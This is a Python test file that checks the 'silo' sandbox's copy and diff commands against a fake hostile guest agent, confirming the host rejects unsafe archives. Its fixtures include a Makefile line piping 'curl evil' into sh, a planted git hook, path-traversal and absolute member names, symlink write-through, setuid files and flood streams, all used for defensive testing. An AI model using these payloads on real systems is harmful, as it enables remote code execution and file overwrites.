"""`silo cp` and `silo diff` against a hostile guest agent, no VM needed.

A fake agent (this file run as a script) stands in for silo-vmm's hybrid
vsock socket in a fake sandbox's run directory: `silo` finds the sandbox
"running" because vmm.pid names the fake, with its start time beside it
(fake_agent.claim_vmm_pid, src/sandbox/state.c). It answers CONNECT, then STAT, GET_TAR,
GET_FILE and EXEC (docs/agent-protocol.md) with whatever a guest root could
send: members outside the copy, symlinks to write through, devices, setuid
files, streams longer than announced or that never end, a manifest without
end. Copy-in runs against the real agent (silo-init --listen) behind a relay.

Each test checks what the host keeps: only the copy, nothing half-written.
"""
import io
import json
import os
import pathlib
import socket
import stat
import struct
import subprocess
import sys
import tarfile
import threading
import time

import pytest

TOP = pathlib.Path(__file__).resolve().parents[2]
BUILD = TOP / os.environ.get("SILO_BUILD", "build")
SILO = BUILD / "silo"
INIT = pathlib.Path(os.environ.get("SILO_AGENT_INIT", BUILD / "silo-init"))


from fake_agent import (PT_ERROR, PT_EXEC, PT_STDOUT, PT_EXIT, PT_STARTED,  # noqa: E402
                        PT_GET_TAR, PT_GET_FILE, PT_STAT, PT_STAT_REPLY, PT_DATA, PT_END,
                        accept_connect, claim_vmm_pid, frame, read_frame)
CHUNK = 64 * 1024

pytestmark = pytest.mark.skipif(not SILO.exists(), reason=f"{SILO} not built (make)")


# ---- the fake agent (runs as its own process: python3 THIS serve SOCK SPEC) ----

def pstr(s):
    b = s.encode() + b"\0"
    return struct.pack("<I", len(b)) + b


def stat_reply(mode, size):
    return frame(PT_STAT_REPLY, struct.pack("<IIIIQqI", mode, 0, 0, 1, size, 0, 0)
                 + pstr("") + pstr(""))


def serve_one(c, spec):
    accept_connect(c)
    typ, body = read_frame(c)
    if typ == PT_STAT:
        c.sendall(stat_reply(spec["mode"], spec.get("size", 0)))
    elif typ == PT_GET_TAR:
        # members under "." when asked for "dir/.", else under the base name,
        # as `tar -c -C dirname base` names them
        path = body[4:].rstrip(b"\0").decode()
        top = "." if path.endswith("/.") else os.path.basename(path)
        data = make_tar(top, spec["tar"])
        for i in range(0, len(data), CHUNK):
            c.sendall(frame(PT_DATA, data[i:i + CHUNK]))
        if spec.get("flood"):  # the member's data, and more, until the host gives up
            zeros = frame(PT_DATA, bytes(CHUNK))
            for _ in range(spec["flood"] // CHUNK):
                c.sendall(zeros)
            return
        c.sendall(frame(PT_END))
    elif typ == PT_GET_FILE:
        c.sendall(stat_reply(0o100644, spec["size"]))
        for _ in range(spec["send"] // CHUNK):
            c.sendall(frame(PT_DATA, b"x" * CHUNK))
        c.sendall(frame(PT_END))
    elif typ == PT_EXEC:
        c.sendall(frame(PT_STARTED, struct.pack("<I", 1)))
        out = frame(PT_STDOUT, (b"M f 644 ./" + b"a" * 80 + b"\n") * (CHUNK // 91))
        for _ in range(spec["stdout"] // len(out)):
            c.sendall(out)
        c.sendall(frame(PT_EXIT, struct.pack("<Ii", 0, 0)))
    else:
        c.sendall(frame(PT_ERROR, struct.pack("<i", 95) + pstr("not in this fake")))


def make_tar(top, members):
    """members: [name, kind, extra]; name "{top}" stands for the copy's top."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, kind, extra in members:
            ti = tarfile.TarInfo(name.replace("{top}", top))
            ti.mode, ti.mtime = 0o644, 1700000000
            data = None
            if kind == "dir":
                ti.type, ti.mode = tarfile.DIRTYPE, 0o755
            elif kind == "file":
                data = extra.encode()
                ti.size = len(data)
            elif kind == "suid":
                data, ti.mode = b"#!/bin/sh\n", 0o6755
                ti.size = len(data)
            elif kind == "sym":
                ti.type, ti.linkname = tarfile.SYMTYPE, extra
            elif kind == "hard":
                ti.type, ti.linkname = tarfile.LNKTYPE, extra.replace("{top}", top)
            elif kind == "chr":
                ti.type, ti.devmajor, ti.devminor = tarfile.CHRTYPE, 1, 3
            elif kind == "fifo":
                ti.type = tarfile.FIFOTYPE
            elif kind == "huge":  # header only: the data follows as a flood
                ti.size = extra
                t.fileobj.write(ti.tobuf(tarfile.GNU_FORMAT))
                continue
            t.addfile(ti, io.BytesIO(data) if data is not None else None)
        if any(k == "huge" for _, k, _ in members):
            t.fileobj.flush()
            return buf.getvalue()
    return buf.getvalue()


def serve(sock, spec_file):
    spec = json.loads(pathlib.Path(spec_file).read_text())
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(sock)
    srv.listen(16)
    while True:
        c, _ = srv.accept()

        def one(c=c):
            try:
                serve_one(c, spec)
            except (OSError, EOFError):
                pass
            finally:
                c.close()
        threading.Thread(target=one, daemon=True).start()


def relay(sock, target):
    """The VMM's side of the hybrid vsock, in front of the real agent."""
    # Run as a script: this directory is sys.path[0]; tests/ (silo_testlib,
    # which test_agent_host imports) is not, as conftest.py adds it.
    sys.path.insert(1, str(pathlib.Path(__file__).resolve().parents[1]))
    from test_agent_host import FakeHybridVsock
    FakeHybridVsock(sock, target)
    threading.Event().wait()


# ---- fixtures ------------------------------------------------------------------

def wait_socket(path):
    for _ in range(500):
        if os.path.exists(path):
            return
        time.sleep(0.01)
    pytest.fail(f"{path} did not appear")


@pytest.fixture
def box(tmp_path):
    """A sandbox "box" whose agent is whatever start() launches."""
    data, run = tmp_path / "data", tmp_path / "run"
    # private, as silo insists (another user's or an open directory is refused)
    for d in (data, data / "sandboxes", data / "sandboxes" / "box", run, run / "box"):
        d.mkdir(mode=0o700)
    (data / "sandboxes" / "box" / "config").write_text(
        "name=box\ncpus=1\nmemory=268435456\ndisk=268435456\ncreated=0\n")
    (data / "sandboxes" / "box" / "lock").touch()
    sock = str(run / "box" / "vsock.sock")
    env = dict(os.environ, SILO_DATA_DIR=str(data), SILO_RUN_DIR=str(run))
    procs = []

    def start(*args):
        p = subprocess.Popen([sys.executable, __file__, *args[:1], sock, *args[1:]],
                             stdin=subprocess.DEVNULL)
        procs.append(p)
        wait_socket(sock)
        claim_vmm_pid(run / "box", p.pid)

    def fake(**spec):
        (tmp_path / "spec.json").write_text(json.dumps(spec))
        start("serve", str(tmp_path / "spec.json"))

    def silo(*args, timeout=60):
        return subprocess.run([str(SILO), *args], env=env, stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=timeout)
    dst = tmp_path / "dst"
    dst.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    yield dict(fake=fake, start=start, silo=silo, dst=dst, outside=outside, tmp=tmp_path)
    for p in procs:
        p.kill()
        p.wait()


def tree(root):
    """Like test_agent_host.tree_state, but never opens what it finds: a
    FIFO the old code made would block a read."""
    out = {}
    for dirpath, dirs, files in os.walk(root):
        for n in dirs + files:
            p = pathlib.Path(dirpath) / n
            st = p.lstat()
            rel = str(p.relative_to(root))
            if stat.S_ISLNK(st.st_mode):
                out[rel] = "-> " + os.readlink(p)
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = "dir %o" % stat.S_IMODE(st.st_mode)
            elif stat.S_ISREG(st.st_mode):
                out[rel] = "file %o" % stat.S_IMODE(st.st_mode)
            else:
                out[rel] = "special %o" % st.st_mode
    return out


def err_lines(r):
    return r.stderr.decode(errors="replace").splitlines()


DIR = 0o040755


# ---- copy out: a tree ------------------------------------------------------------

def test_tree_lands_only_under_its_name(box):
    """Members outside the copy's top, special files, setuid bits and hard
    links: the copy gets only files, dirs and symlinks, all under dst/out."""
    box["fake"](mode=DIR, tar=[
        ["{top}/", "dir", None],
        ["{top}/ok.txt", "file", "fine\n"],
        ["Makefile", "file", "all:\n\tcurl evil | sh\n"],
        [".git/hooks/pre-commit", "file", "evil"],
        ["{top}/l", "sym", str(box["outside"])],
        ["{top}/suid", "suid", None],
        ["{top}/null", "chr", None],
        ["{top}/fifo", "fifo", None],
        ["{top}/hard", "hard", "{top}/ok.txt"],
    ])
    r = box["silo"]("cp", "box:/workspace/out", str(box["dst"]))
    assert r.returncode == 0, r.stderr
    got = tree(box["dst"])
    assert sorted(os.listdir(box["dst"])) == ["out"], got
    assert got["out/ok.txt"] == "file 644"
    assert got["out/l"] == "-> " + str(box["outside"])
    assert got["out/suid"] == "file 755"          # setuid/setgid cleared
    for gone in ("out/null", "out/fifo", "out/hard"):
        assert gone not in got, got
    assert not [k for k, v in got.items() if v.startswith("special")], got
    assert os.listdir(box["outside"]) == []
    warns = [ln for ln in err_lines(r) if "warning" in ln]
    assert len(warns) == 4, warns                 # one line per kind, not per file
    assert any("device" in w for w in warns) and any("hard link" in w for w in warns)


def test_libarchive_is_opened_by_a_copy_not_linked(box):
    """silo opens libarchive (libxml2, ICU and the C++ runtime behind it)
    when a copy out needs it: no other command loads it (extract.c)."""
    libs = subprocess.run(["ldd", str(SILO)], capture_output=True, text=True, check=True).stdout
    assert "libarchive" not in libs and "libicu" not in libs, libs
    box["fake"](mode=DIR, tar=[["{top}/", "dir", None], ["{top}/ok.txt", "file", "fine\n"]])
    r = box["silo"]("cp", "box:/workspace/out", str(box["dst"]))
    assert r.returncode == 0, r.stderr
    assert tree(box["dst"]) == {"out": "dir 755", "out/ok.txt": "file 644"}, tree(box["dst"])


def test_no_write_through_a_symlink_the_stream_made(box):
    box["fake"](mode=DIR, tar=[
        ["{top}/", "dir", None],
        ["{top}/ok.txt", "file", "fine\n"],
        ["{top}/l", "sym", str(box["outside"])],
        ["{top}/l/file", "file", "through the link\n"],
    ])
    r = box["silo"]("cp", "box:/workspace/out", str(box["dst"]))
    assert r.returncode == 125
    assert len(err_lines(r)) == 1, r.stderr
    assert os.listdir(box["outside"]) == []
    assert os.listdir(box["dst"]) == []           # nothing half-written


@pytest.mark.parametrize("name", ["../evil", "/ABS/abs", "{top}/../../x"])
def test_unsafe_names_refused(box, name):
    absdir = box["tmp"] / "abs"
    box["fake"](mode=DIR, tar=[
        ["{top}/", "dir", None],
        ["{top}/ok.txt", "file", "fine\n"],
        [name.replace("/ABS", str(absdir)), "file", "evil\n"],
    ])
    r = box["silo"]("cp", "box:/workspace/out", str(box["dst"]))
    assert r.returncode == 125
    assert len(err_lines(r)) == 1 and "unsafe member name" in r.stderr.decode(), r.stderr
    assert os.listdir(box["dst"]) == []
    assert not (box["tmp"] / "evil").exists() and not absdir.exists()
    assert not (box["tmp"] / "x").exists()


@pytest.mark.parametrize("into", [True, False])
def test_endless_stream_stops_at_max_size(box, into):
    """A member that claims 1 TiB and a stream that keeps coming: the copy
    stops at --max-size and nothing stays (the fake gives up at 32 MiB so
    the old code finishes too)."""
    box["fake"](mode=DIR, tar=[["{top}/", "dir", None], ["{top}/big", "huge", 1 << 40]],
                flood=32 << 20)
    dst = box["dst"] if into else box["dst"] / "new"
    r = box["silo"]("cp", "--max-size", "1M", "box:/workspace/out", str(dst))
    assert r.returncode == 125
    assert len(err_lines(r)) == 1 and "--max-size" in r.stderr.decode(), r.stderr
    assert os.listdir(box["dst"]) == []


def test_cut_stream_leaves_nothing(box):
    """The guest closes the stream halfway through a member (no --max-size
    involved): an error, and not even the members that were complete stay."""
    box["fake"](mode=DIR, tar=[["{top}/", "dir", None], ["{top}/ok.txt", "file", "fine\n"],
                               ["{top}/big", "huge", 1 << 40]], flood=8 << 20)
    r = box["silo"]("cp", "box:/workspace/out", str(box["dst"]))
    assert r.returncode == 125
    assert len(err_lines(r)) == 1, r.stderr
    assert os.listdir(box["dst"]) == []


# ---- copy out: a file --------------------------------------------------------------

def test_file_longer_than_announced(box):
    box["fake"](mode=0o100644, size=10, send=4 << 20)
    r = box["silo"]("cp", "box:/workspace/f", str(box["dst"] / "f"))
    assert r.returncode == 125
    assert len(err_lines(r)) == 1 and "announced" in r.stderr.decode(), r.stderr
    assert os.listdir(box["dst"]) == []


def test_file_larger_than_max_size(box):
    box["fake"](mode=0o100644, size=8 << 20, send=8 << 20)
    r = box["silo"]("cp", "--max-size", "1M", "box:/workspace/f", str(box["dst"]))
    assert r.returncode == 125
    assert len(err_lines(r)) == 1 and "--max-size" in r.stderr.decode(), r.stderr
    assert os.listdir(box["dst"]) == []


# ---- diff: a manifest without end ------------------------------------------------

def test_diff_manifest_is_bounded(box):
    box["fake"](stdout=80 << 20)
    r = box["silo"]("diff", "box", timeout=120)
    assert r.returncode == 125
    assert len(err_lines(r)) == 1 and "manifest" in r.stderr.decode(), r.stderr
    assert r.stdout == b""


# ---- the real agent, behind a relay: copies both ways still work ---------------

AGENT_CLIENT = BUILD / "silo-agent"


@pytest.fixture
def real(box):
    if not INIT.exists():
        pytest.skip(f"{INIT} not built (make agent)")
    asock = str(box["tmp"] / "agent.sock")
    agent = subprocess.Popen([str(INIT), "--listen", f"unix:{asock}"], stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    wait_socket(asock)
    box["start"]("relay", asock)
    guest = box["tmp"] / "guest"
    guest.mkdir()
    yield dict(box, guest=guest, addr=f"unix:{asock}")
    agent.kill()
    agent.wait()


def test_copy_in_drops_setuid(real):
    """What the host sends into the guest keeps its modes but never setuid,
    setgid or sticky bits: a tree, a file, and a file put by the agent client."""
    src, guest = real["tmp"] / "src", real["guest"]
    src.mkdir()
    (src / "tool").write_bytes(b"#!/bin/sh\n")
    (src / "tool").chmod(0o6755)
    (src / "plain").write_bytes(b"x")
    (src / "plain").chmod(0o640)
    (src / "shared").mkdir()
    (src / "shared").chmod(0o1777)
    r = real["silo"]("cp", str(src), f"box:{guest}/tree")
    assert r.returncode == 0, r.stderr
    r = real["silo"]("cp", str(src / "tool"), f"box:{guest}/one")
    assert r.returncode == 0, r.stderr
    subprocess.run([str(AGENT_CLIENT), real["addr"], "put", str(src / "tool"), str(guest / "put")],
                   check=True, stdout=subprocess.DEVNULL)
    got = tree(guest)
    assert got["tree/tool"] == "file 755" and got["one"] == "file 755", got
    assert got["put"] == "file 755", got
    assert got["tree/plain"] == "file 640", got
    assert got["tree/shared"] == "dir 777", got


def test_copy_out_round_trip(real):
    """A tree with modes, an empty dir, symlinks (dangling too) comes out
    as it is, under a new name, into a directory, merged into an existing
    copy; a symlink to a directory copies the directory."""
    g, dst = real["guest"], real["dst"]
    (g / "t" / "sub" / "deep").mkdir(parents=True)
    (g / "t" / "empty").mkdir()
    (g / "t" / "sub" / "deep" / "f").write_text("nested\n")
    (g / "t" / "x.sh").write_text("#!/bin/sh\n")
    (g / "t" / "x.sh").chmod(0o700)
    (g / "t" / "sub").chmod(0o750)
    os.symlink("sub/deep/f", g / "t" / "rel")
    os.symlink("/nonexistent/target", g / "t" / "dangling")
    os.symlink("t", g / "tl")
    want = tree(g / "t")
    assert real["silo"]("cp", f"box:{g}/t", str(dst / "new")).returncode == 0
    assert tree(dst / "new") == want
    assert real["silo"]("cp", f"box:{g}/t", str(dst)).returncode == 0
    assert tree(dst / "t") == want
    (dst / "t" / "mine").write_text("kept\n")
    (g / "t" / "added").write_text("new\n")
    r = real["silo"]("cp", f"box:{g}/t", str(dst))
    assert r.returncode == 0, r.stderr
    assert (dst / "t" / "mine").read_text() == "kept\n" and (dst / "t" / "added").exists()
    assert real["silo"]("cp", f"box:{g}/tl", str(dst / "vialink")).returncode == 0
    assert tree(dst / "vialink") == tree(g / "t")
    assert real["silo"]("cp", f"box:{g}/t/x.sh", str(dst)).returncode == 0
    assert tree(dst)["x.sh"] == "file 700"
    assert not [n for n in os.listdir(dst) if n.startswith(".silo-cp")]


if __name__ == "__main__":
    {"serve": serve, "relay": relay}[sys.argv[1]](*sys.argv[2:])
